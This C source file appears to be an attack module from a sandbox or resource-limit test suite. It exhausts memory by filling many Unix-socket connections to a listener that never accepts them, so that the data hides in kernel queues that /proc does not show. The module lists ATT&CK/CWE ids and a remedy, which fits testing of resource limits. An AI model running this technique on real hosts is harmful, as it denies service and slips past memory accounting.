// SPDX-License-Identifier: MIT
/*
 * Goal:  more memory than the budget.
 * Means: connections to a listener of one's own that accepts none: each is filled, and its end closed. What
 *        was sent waits in the listener's queue, of which no descriptor and no list of /proc/PID tells.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define MOST    (384L << 20)
#define MESSAGE 2000 /* takes a buffer of 4 KiB */
#define SECONDS 7

static long fill(const struct sockaddr_un *a)
{
	static const char message[MESSAGE];
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	long sent = 0;

	if (fd < 0)
		return -1;
	if (connect(fd, (const struct sockaddr *)a, sizeof(*a)) < 0) {
		close(fd);
		return -1;
	}
	fcntl(fd, F_SETFL, O_NONBLOCK);
	while (send(fd, message, sizeof(message), MSG_NOSIGNAL) > 0)
		sent += 4096;
	close(fd);
	return sent;
}

static enum claim run(const struct brief *b)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = "unaccepted" };
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);
	time_t end = time(NULL) + SECONDS;
	long sum = 0, n = 0;

	attempting(b);
	if (listener < 0 || bind(listener, (struct sockaddr *)&a, sizeof(a)) < 0)
		return denied("bind");
	if (listen(listener, 4096) < 0)
		return denied("listen");
	while (sum < MOST && n >= 0 && time(NULL) < end) {
		n = fill(&a);
		sum += n > 0 ? n : 0;
	}
	unlink("unaccepted");
	return n < 0 ? denied("connect") : hold();
}

const struct attack attack = {
	.effect = "more memory than the budget",
	.means = "connections that nobody accepts, each full, in the queue of a listener",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "no listeners, or few and with a short queue; a memory cgroup",
	.refs = (const char *const[]){ "listen(2)", "unix(7)", NULL },
	.run = run,
};
